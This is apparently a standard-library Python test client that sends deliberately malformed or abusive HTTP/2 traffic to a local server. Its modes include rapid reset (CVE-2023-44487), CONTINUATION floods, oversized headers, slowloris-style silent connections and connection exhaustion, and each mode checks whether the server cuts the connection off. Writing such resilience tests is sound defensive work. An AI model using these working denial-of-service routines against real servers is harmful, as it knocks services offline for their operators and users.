#!/usr/bin/env python3
"""A small frame-level HTTP/2 client for the server tests (standard library only).

It speaks just enough HTTP/2 (preface, SETTINGS, HEADERS with a literal-only
HPACK encoder, CONTINUATION, DATA, RST_STREAM, WINDOW_UPDATE, PING) over TLS
(ALPN h2) or cleartext (prior knowledge) to misbehave on purpose:

  h2attack.py MODE --port P [--tls] [options]

  get                 one GET, expects 200 (a sanity check of this client)
  rapid-reset         --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487);
                      --stagger: each batch of 100 HEADERS, a 5 ms pause, then their resets
  continuation-flood  HEADERS without END_HEADERS, then endless CONTINUATION frames
  oversized-headers   --size N: one request whose header list is N bytes; the stream
                      must be refused and the connection keep serving (or close cleanly)
  huge-header         one header field of --size bytes (above HPACK limits)
  silent              connect and send nothing
  silent-many         --count N connections at once that send nothing
  dribble             send a valid start (TLS ClientHello / h2 preface) one byte at a time
  silent-after-tls    complete the TLS handshake, then send nothing
  idle                one GET, then an idle connection (closed by idle timeout or stop)
  half-headers        HEADERS without END_HEADERS, then nothing
  half-body           POST headers and part of the body, then nothing
  vanish              --count N: half-sent requests whose client disconnects at once
  drop-download       --count N: GET --path (large), read a little, reset the TCP connection
  reset-one           GET --path, RST_STREAM after --delay s, then a GET on the same connection
  disconnect-one      GET --path, the client disconnects after --delay s
  slow-reader         --count N GETs of --path (large windows), then no reading for --within s
  random              --bytes N of random data (--after-preface: after a valid preface)
  maxconn             --hold N --extra K: N connections are served, K more are refused,
                      and a new client is served once the N are closed

Every attack mode waits for the server to end the connection (GOAWAY and/or
close, or a refused stream) within --within seconds and exits 0 when it did,
1 with a message when it did not. The last line printed is a one-line summary.
"""
import argparse
import os
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
               "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]

# HPACK static table (RFC 7541 Appendix A): enough to decode :status and names.
STATIC = [None, (":authority", ""), (":method", "GET"), (":method", "POST"), (":path", "/"),
          (":path", "/index.html"), (":scheme", "http"), (":scheme", "https"), (":status", "200"),
          (":status", "204"), (":status", "206"), (":status", "304"), (":status", "400"),
          (":status", "404"), (":status", "500"), ("accept-charset", ""),
          ("accept-encoding", "gzip, deflate"), ("accept-language", ""), ("accept-ranges", ""),
          ("accept", ""), ("access-control-allow-origin", ""), ("age", ""), ("allow", ""),
          ("authorization", ""), ("cache-control", ""), ("content-disposition", ""),
          ("content-encoding", ""), ("content-language", ""), ("content-length", ""),
          ("content-location", ""), ("content-range", ""), ("content-type", ""), ("cookie", ""),
          ("date", ""), ("etag", ""), ("expect", ""), ("expires", ""), ("from", ""), ("host", ""),
          ("if-match", ""), ("if-modified-since", ""), ("if-none-match", ""), ("if-range", ""),
          ("if-unmodified-since", ""), ("last-modified", ""), ("link", ""), ("location", ""),
          ("max-forwards", ""), ("proxy-authenticate", ""), ("proxy-authorization", ""),
          ("range", ""), ("referer", ""), ("refresh", ""), ("retry-after", ""), ("server", ""),
          ("set-cookie", ""), ("strict-transport-security", ""), ("transfer-encoding", ""),
          ("user-agent", ""), ("via", ""), ("www-authenticate", "")]


def log(*a):
    print(*a, flush=True)


# ---- HPACK ---------------------------------------------------------------------------

def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_encode(headers):
    """Literal header fields without indexing, new names, no Huffman."""
    out = bytearray()
    for name, value in headers:
        n = name.encode() if isinstance(name, str) else name
        v = value.encode() if isinstance(value, str) else value
        out += b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v
    return bytes(out)


def hpack_read_int(buf, pos, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value = buf[pos] & limit
    pos += 1
    if value < limit:
        return value, pos
    shift = 0
    while True:
        b = buf[pos]
        pos += 1
        value += (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            return value, pos


def hpack_read_str(buf, pos):
    huff = buf[pos] & 0x80
    n, pos = hpack_read_int(buf, pos, 7)
    s = buf[pos:pos + n]
    return ("<huffman>" if huff else s.decode("latin-1")), pos + n


def hpack_decode(block):
    """Decodes a block from a server told SETTINGS_HEADER_TABLE_SIZE=0 (static table only)."""
    out, pos = [], 0
    while pos < len(block):
        b = block[pos]
        if b & 0x80:
            idx, pos = hpack_read_int(block, pos, 7)
            out.append(STATIC[idx] if 0 < idx < len(STATIC) else ("<dynamic>", "<dynamic>"))
            continue
        if b & 0xE0 == 0x20:  # dynamic table size update
            _, pos = hpack_read_int(block, pos, 5)
            continue
        prefix = 6 if b & 0x40 else 4
        idx, pos = hpack_read_int(block, pos, prefix)
        if idx:
            name = STATIC[idx][0] if idx < len(STATIC) else "<dynamic>"
        else:
            name, pos = hpack_read_str(block, pos)
        value, pos = hpack_read_str(block, pos)
        out.append((name, value))
    return out


def request_headers(args, method="GET", path="/", extra=()):
    return [(":method", method), (":scheme", "https" if args.tls else "http"),
            (":path", path), (":authority", "127.0.0.1:%d" % args.port)] + list(extra)


# ---- frames --------------------------------------------------------------------------

def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings(entries=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in entries))


def rst(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def window_update(stream, inc):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", inc))


class Conn:
    """One connection; `poll` reads and records what the server sends."""

    def __init__(self, args, handshake=True):
        self.args = args
        self.buf = b""
        self.closed = False
        self.close_reason = ""
        self.goaway = None       # error code of a GOAWAY received
        self.server_settings = False
        self.rst = {}            # stream -> error code
        self.headers = {}        # stream -> decoded header list
        self.data = {}           # stream -> bytes of DATA received
        self.ended = set()       # streams the server ended
        self.frames = 0
        self.started = False     # preface sent: only then are SETTINGS and PINGs answered
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = raw
        if args.tls and handshake:
            self.sock = tls_context().wrap_socket(raw, server_hostname="localhost")
            if self.sock.selected_alpn_protocol() != "h2":
                raise RuntimeError("ALPN did not select h2: %r" % self.sock.selected_alpn_protocol())

    def send(self, data):
        if self.closed:
            return False
        try:
            self.sock.settimeout(10)
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            self.mark_closed("send: %s" % e.__class__.__name__)
            return False

    def mark_closed(self, why):
        if not self.closed:
            self.closed = True
            self.close_reason = why

    def start(self):
        """Preface + SETTINGS (no dynamic table, so responses decode statelessly)."""
        self.started = True
        return self.send(PREFACE + settings([(1, 0), (4, 16 << 20)]) + window_update(0, 1 << 30))

    def readable(self, timeout):
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            return True
        r, _, _ = select.select([self.sock], [], [], max(timeout, 0))
        return bool(r)

    def poll(self, timeout=0.0, until=None):
        """Reads frames for up to `timeout` seconds, or until `until()` is true."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            if until and until():
                return True
            left = deadline - time.monotonic()
            if not self.readable(left):
                if left <= 0:
                    break
                continue
            try:
                self.sock.settimeout(5)
                chunk = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError) as e:
                self.mark_closed("recv: %s" % e.__class__.__name__)
                break
            if not chunk:
                self.mark_closed("EOF")
                break
            self.buf += chunk
            self.parse()
        return bool(until and until())

    def parse(self):
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            self.frames += 1
            if ftype == SETTINGS and not flags & ACK:
                self.server_settings = True
                if self.started:
                    self.send(settings(ack=True))
            elif ftype == PING and not flags & ACK and self.started:
                self.send(frame(PING, ACK, 0, payload))
            elif ftype == GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == RST_STREAM:
                self.rst[stream] = struct.unpack(">I", payload[:4])[0]
                self.ended.add(stream)
            elif ftype in (HEADERS, CONTINUATION):
                block = payload
                if ftype == HEADERS:
                    if flags & PADDED:
                        block = block[1:len(block) - payload[0]]
                    if flags & PRIO:
                        block = block[5:]
                self.headers.setdefault(stream, []).extend(hpack_decode(block))
                if flags & END_STREAM:
                    self.ended.add(stream)
            elif ftype == DATA:
                self.data[stream] = self.data.get(stream, 0) + length
                if length:
                    self.send(window_update(stream, length) + window_update(0, length))
                if flags & END_STREAM:
                    self.ended.add(stream)

    def status(self, stream):
        for n, v in self.headers.get(stream, []):
            if n == ":status":
                return v
        return None

    def ended_by_server(self):
        return self.closed or self.goaway is not None

    def outcome(self):
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY %s" % err_name(self.goaway))
        if self.closed:
            parts.append("closed (%s)" % self.close_reason)
        return ", ".join(parts) if parts else "still open"

    def wait_end(self, within):
        """Waits for GOAWAY+close, or close; True when the server ended the connection."""
        self.poll(within, until=lambda: self.closed)
        return self.ended_by_server()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def err_name(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def tls_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def client_hello():
    """The bytes of a real TLS ClientHello offering h2."""
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context().wrap_bio(inc, out, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def result(ok, msg):
    log(("OK: " if ok else "FAIL: ") + msg)
    return 0 if ok else 1


def get(args, conn=None, stream=1, path="/"):
    """Sends a GET on `conn` (new if None); returns (conn, status)."""
    c = conn or Conn(args)
    if conn is None:
        c.start()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, hpack_encode(request_headers(args, path=path))))
    c.poll(10, until=lambda: stream in c.ended)
    return c, c.status(stream)


# ---- modes ---------------------------------------------------------------------------

def m_get(args):
    c, status = get(args, path=args.path)
    body = c.data.get(1, 0)
    c.close()
    return result(status == "200", "GET %s: status %s, %d body bytes" % (args.path, status, body))


def m_rapid_reset(args):
    c = Conn(args)
    c.start()
    c.poll(2, until=lambda: c.server_settings)
    block = hpack_encode(request_headers(args, path=args.path))
    sent, sid, t0 = 0, 1, time.monotonic()
    while sent < args.count and not c.ended_by_server():
        n = min(100, args.count - sent)
        ids = list(range(sid, sid + 2 * n, 2))
        sid += 2 * n
        sent += n
        heads = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids)
        resets = b"".join(rst(i, 8) for i in ids)
        if args.stagger:
            # The handlers start before their streams are reset.
            if not c.send(heads):
                break
            c.poll(0.005)
            if not c.send(resets):
                break
        elif not c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) + rst(i, 8)
                                 for i in ids)):
            break
        c.poll(0)
    ended = c.wait_end(args.within)
    msg = "rapid reset%s: %d HEADERS+RST_STREAM pairs sent in %.2f s; server: %s" % (
        " (staggered)" if args.stagger else "", sent, time.monotonic() - t0, c.outcome())
    c.close()
    return result(ended, msg)


def m_reset_one(args):
    """GET --path, RST_STREAM(CANCEL) after --delay s; the connection must keep serving."""
    c = Conn(args)
    c.start()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args, path=args.path))))
    c.poll(args.delay)
    answered_first = 1 in c.ended
    c.send(rst(1, 8))
    c.poll(0.2)
    _, status = get(args, conn=c, stream=3)
    c.close()
    return result(status == "200" and not answered_first,
                  "GET %s reset after %.2f s%s; the next request on the connection got status %s" % (
                      args.path, args.delay, " (but it was already answered)" if answered_first else "",
                      status))


def m_disconnect_one(args):
    """GET --path, then the client disconnects after --delay s."""
    c = Conn(args)
    c.start()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args, path=args.path))))
    c.poll(args.delay)
    answered = 1 in c.ended
    c.close()
    return result(not answered, "GET %s, client gone after %.2f s%s" % (
        args.path, args.delay, " (but it was already answered)" if answered else ""))


def m_slow_reader(args):
    """--count GETs of --path with large windows, then reads nothing for --within s."""
    c = Conn(args)
    c.start()
    for i in range(args.count):
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1,
                     hpack_encode(request_headers(args, path=args.path))))
    log("slow-reader: %d requests sent, not reading" % args.count)
    time.sleep(args.within)
    # Then read a little: the connection must still be alive and sending.
    c.poll(1, until=lambda: c.data)
    got = sum(c.data.values())
    c.close()
    return result(got > 0 or not c.closed, "slow reader: %d streams of %s, not read for %.1f s; then "
                  "%d body bytes arrived (%s)" % (args.count, args.path, args.within, got, c.outcome()))


def m_drop_download(args):
    """--count times: GET --path (a large body), read a little, then reset the TCP connection."""
    for _ in range(args.count):
        c = Conn(args)
        c.start()
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args, path=args.path))))
        c.poll(2, until=lambda: c.data.get(1, 0) > 0)
        # Close with unread data and SO_LINGER 0: the server's next writes hit a reset socket.
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        c.close()
    return result(True, "%d clients reset the connection during a %s download" % (args.count, args.path))


def m_continuation_flood(args):
    c = Conn(args)
    c.start()
    c.poll(2, until=lambda: c.server_settings)
    c.send(frame(HEADERS, END_STREAM, 1, hpack_encode(request_headers(args))))
    n, t0 = 0, time.monotonic()
    while n < args.count and not c.ended_by_server() and time.monotonic() - t0 < args.within:
        batch = bytearray()
        for _ in range(50):
            payload = b"" if args.empty else hpack_encode([("x-flood-%d" % n, "v" * 40)])
            batch += frame(CONTINUATION, 0, 1, payload)
            n += 1
        if not c.send(bytes(batch)):
            break
        c.poll(0)
    ended = c.wait_end(args.within)
    msg = "CONTINUATION flood: %d frames sent in %.2f s; server: %s" % (n, time.monotonic() - t0, c.outcome())
    c.close()
    return result(ended, msg)


def send_header_block(c, stream, block, flags):
    """HEADERS + CONTINUATION frames of at most 16384 bytes each."""
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = bytearray()
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            out += frame(HEADERS, flags | (END_HEADERS if last else 0), stream, chunk)
        else:
            out += frame(CONTINUATION, END_HEADERS if last else 0, stream, chunk)
    return c.send(bytes(out))


def m_oversized_headers(args):
    c = Conn(args)
    c.start()
    c.poll(2, until=lambda: c.server_settings)
    extra, total, i = [], 0, 0
    while total < args.size:
        extra.append(("x-big-%d" % i, "b" * 4000))
        total += 4000 + 32 + len(extra[-1][0])
        i += 1
    send_header_block(c, 1, hpack_encode(request_headers(args, extra=extra)), END_STREAM)
    c.poll(args.within, until=lambda: 1 in c.ended or c.ended_by_server())
    status1 = c.status(1)
    what = ("RST_STREAM %s" % err_name(c.rst[1])) if 1 in c.rst else \
        ("status %s" % status1) if status1 else c.outcome()
    refused = status1 != "200" and (1 in c.ended or c.ended_by_server())
    msg = "oversized header list (%d bytes): stream 1 got %s" % (total, what)
    if not c.ended_by_server():
        # The connection survived the refusal: it must still serve a request.
        _, status3 = get(args, conn=c, stream=3)
        msg += "; a normal request on the same connection got status %s" % status3
        refused = refused and status3 == "200"
    else:
        msg += " (%s)" % c.outcome()
    c.close()
    return result(refused, msg)


def m_huge_header(args):
    c = Conn(args)
    c.start()
    c.poll(2, until=lambda: c.server_settings)
    send_header_block(c, 1, hpack_encode(request_headers(args, extra=[("x-huge", "h" * args.size)])),
                      END_STREAM)
    c.poll(args.within, until=lambda: 1 in c.ended or c.ended_by_server())
    status1 = c.status(1)
    ok = status1 != "200" and (1 in c.ended or c.ended_by_server())
    msg = "one %d-byte header field: stream 1 got %s; connection %s" % (
        args.size, ("RST_STREAM %s" % err_name(c.rst[1])) if 1 in c.rst else "status %s" % status1,
        c.outcome())
    c.close()
    return result(ok, msg)


def timed_end(c, within, what):
    t0 = time.monotonic()
    ended = c.wait_end(within)
    return result(ended and c.closed, "%s: server %s after %.2f s" % (what, c.outcome(), time.monotonic() - t0))


def m_silent(args):
    c = Conn(args, handshake=False)  # raw TCP even on the TLS port: no ClientHello at all
    return timed_end(c, args.within, "silent connection")


def m_silent_many(args):
    """--count raw connections at once that send nothing (slowloris)."""
    conns = [Conn(args, handshake=False) for _ in range(args.count)]
    t0 = time.monotonic()
    open_ = list(conns)
    while open_ and time.monotonic() - t0 < args.within:
        r, _, _ = select.select([c.sock for c in open_], [], [], 0.1)
        for c in open_:
            if c.sock in r:
                try:
                    if not c.sock.recv(4096):
                        c.mark_closed("EOF")
                except OSError as e:
                    c.mark_closed("recv: %s" % e.__class__.__name__)
        open_ = [c for c in open_ if not c.closed]
    for c in conns:
        c.close()
    return result(not open_, "%d silent connections: %d closed by the server within %.2f s" % (
        args.count, args.count - len(open_), time.monotonic() - t0))


def m_silent_after_tls(args):
    c = Conn(args)  # TLS handshake done, no HTTP/2 preface
    return timed_end(c, args.within, "TLS handshake then silence")


def m_dribble(args):
    c = Conn(args, handshake=False)
    data = client_hello() if args.tls else PREFACE + settings() + frame(
        HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args)))
    t0 = time.monotonic()
    sent = 0
    while not c.closed and time.monotonic() - t0 < args.within:
        if sent < len(data):
            c.send(data[sent:sent + 1])
            sent += 1
        # Only look at EOF/reset: a TLS server reply would not be parsed as frames.
        if c.readable(args.interval):
            try:
                chunk = c.sock.recv(65536)
                if not chunk:
                    c.mark_closed("EOF")
            except OSError as e:
                c.mark_closed("recv: %s" % e.__class__.__name__)
    what = "%s sent one byte per %.2f s (%d of %d bytes sent)" % (
        "ClientHello" if args.tls else "preface+request", args.interval, sent, len(data))
    return result(c.closed, "%s: server %s after %.2f s" % (what, c.outcome(), time.monotonic() - t0))


def m_half_headers(args):
    c = Conn(args)
    c.start()
    c.poll(1, until=lambda: c.server_settings)
    block = hpack_encode(request_headers(args))
    c.send(frame(HEADERS, END_STREAM, 1, block[:len(block) // 2]))
    return timed_end(c, args.within, "HEADERS without END_HEADERS, then silence")


def half_body(args, c):
    c.start()
    c.send(frame(HEADERS, END_HEADERS, 1, hpack_encode(request_headers(
        args, method="POST", path=args.path, extra=[("content-length", "100000")]))))
    c.send(frame(DATA, 0, 1, b"d" * 1000))


def m_idle(args):
    """One GET, then an idle open connection until the server ends it."""
    c, status = get(args)
    if status != "200":
        return result(False, "idle: the first GET got status %s (%s)" % (status, c.outcome()))
    log("idle: GET answered, now idle")
    return timed_end(c, args.within, "idle connection after one request")


def m_half_body(args):
    c = Conn(args)
    half_body(args, c)
    return timed_end(c, args.within, "POST headers + 1000 of 100000 body bytes, then silence")


def m_vanish(args):
    for _ in range(args.count):
        c = Conn(args)
        half_body(args, c)
        c.poll(0.01)
        c.close()
    return result(True, "%d clients vanished mid-request" % args.count)


def m_random(args):
    handshake = args.after_preface  # on the TLS port: random bytes after or instead of the handshake
    c = Conn(args, handshake=handshake)
    if args.after_preface:
        c.start()
        c.poll(1, until=lambda: c.server_settings)
    junk = os.urandom(args.bytes)
    t0 = time.monotonic()
    for i in range(0, len(junk), 4096):
        if not c.send(junk[i:i + 4096]):
            break
        if handshake:
            c.poll(0)
    if handshake:
        c.wait_end(args.within)
    else:
        while not c.closed and time.monotonic() - t0 < args.within:
            if c.readable(0.1):
                try:
                    if not c.sock.recv(65536):
                        c.mark_closed("EOF")
                except OSError as e:
                    c.mark_closed("recv: %s" % e.__class__.__name__)
    where = "after a valid preface" if args.after_preface else "as the first bytes"
    return result(c.closed, "%d random bytes %s: server %s after %.2f s" % (
        args.bytes, where, c.outcome(), time.monotonic() - t0))


def m_maxconn(args):
    held, problems = [], []
    for i in range(args.hold):
        c = Conn(args)
        c.start()
        if not c.poll(5, until=lambda: c.server_settings):
            problems.append("held connection %d got no SETTINGS (%s)" % (i, c.outcome()))
        held.append(c)
    time.sleep(0.2)
    refused = 0
    for i in range(args.extra):
        t0 = time.monotonic()
        try:
            c = Conn(args)
            c.start()
            c.poll(3, until=lambda: c.server_settings or c.closed)
            if c.closed and not c.server_settings:
                refused += 1
            else:
                problems.append("extra connection %d was served (%s)" % (i, c.outcome()))
            c.close()
        except (ssl.SSLError, ConnectionResetError, BrokenPipeError, OSError, RuntimeError) as e:
            refused += 1  # the TLS handshake could not complete: refused
        if time.monotonic() - t0 > 3:
            problems.append("extra connection %d took %.1f s to be refused" % (i, time.monotonic() - t0))
    # A held connection still works while the extras are refused.
    if held:
        _, st = get(args, conn=held[0], stream=1)
        if st != "200":
            problems.append("a held connection got status %s (%s)" % (st, held[0].outcome()))
    for c in held:
        c.close()
    # Once they are gone, a new client is served.
    status, deadline = None, time.monotonic() + 5
    while time.monotonic() < deadline:
        time.sleep(0.1)
        try:
            c, status = get(args)
            c.close()
            if status == "200":
                break
        except OSError:
            pass
    if status != "200":
        problems.append("after closing the held connections a new client got %s" % status)
    msg = "%d held, %d of %d extra connections refused, new client after: %s" % (
        args.hold, refused, args.extra, status)
    if problems:
        msg += "; " + "; ".join(problems)
    return result(not problems and refused == args.extra, msg)


MODES = {"get": m_get, "rapid-reset": m_rapid_reset, "continuation-flood": m_continuation_flood,
         "oversized-headers": m_oversized_headers, "huge-header": m_huge_header, "silent": m_silent, "silent-many": m_silent_many,
         "silent-after-tls": m_silent_after_tls, "dribble": m_dribble, "half-headers": m_half_headers, "idle": m_idle,
         "half-body": m_half_body, "vanish": m_vanish, "drop-download": m_drop_download, "slow-reader": m_slow_reader, "reset-one": m_reset_one,
         "disconnect-one": m_disconnect_one, "random": m_random, "maxconn": m_maxconn}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--path", default="/")
    p.add_argument("--count", type=int, default=5000)
    p.add_argument("--size", type=int, default=100000)
    p.add_argument("--bytes", type=int, default=65536)
    p.add_argument("--within", type=float, default=10.0, help="seconds the server has to react")
    p.add_argument("--delay", type=float, default=0.3, help="reset-one/disconnect-one: seconds")
    p.add_argument("--interval", type=float, default=0.1)
    p.add_argument("--stagger", action="store_true", help="rapid-reset: RST_STREAMs after a pause")
    p.add_argument("--empty", action="store_true", help="empty CONTINUATION frames")
    p.add_argument("--after-preface", action="store_true")
    p.add_argument("--hold", type=int, default=4)
    p.add_argument("--extra", type=int, default=3)
    args = p.parse_args()
    try:
        return MODES[args.mode](args)
    except (OSError, RuntimeError) as e:
        return result(False, "%s: %s: %s" % (args.mode, e.__class__.__name__, e))


if __name__ == "__main__":
    sys.exit(main())
